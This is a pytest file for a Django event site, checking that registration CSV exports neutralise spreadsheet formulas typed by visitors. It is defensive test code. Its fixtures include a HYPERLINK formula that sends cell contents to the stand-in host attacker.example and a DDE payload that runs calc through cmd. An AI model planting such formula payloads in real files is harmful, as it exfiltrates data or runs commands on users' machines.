"""Exports never hand a spreadsheet program a formula typed by a visitor."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from core.spreadsheets import neutralise
from events.models import EventPage, Registration

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Cliquez")',
    "@SUM(A1:A9)",
    "+33 1 23",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula):
    assert neutralise(formula) == "'" + formula


@pytest.mark.parametrize("value", ["Alice Martin", "a=b", "", 12, -3, None])
def test_plain_text_and_numbers_are_kept(value):
    assert neutralise(value) == value


@pytest.mark.django_db
def test_the_registrations_export_writes_formulas_as_text(client):
    event = EventPage.objects.live().first()
    for number, formula in enumerate(FORMULAS[:2]):
        Registration.objects.create(
            event=event,
            name=formula,
            email=f"formule{number}@example.org",
            organisation="=cmd|' /C calc'!A0",
            consent=True,
        )
    admin = get_user_model().objects.create_superuser("export", "export@example.org", "x")
    client.force_login(admin)
    response = client.get(
        reverse("event_registrations:index"), {"event": event.pk, "export": "csv"}
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row[2]: row for row in csv.reader(io.StringIO(content)) if "formule" in row[2]}
    assert rows["formule0@example.org"][1] == "'" + FORMULAS[0]
    assert rows["formule1@example.org"][1] == "'" + FORMULAS[1]
    assert rows["formule0@example.org"][3] == "'=cmd|' /C calc'!A0"
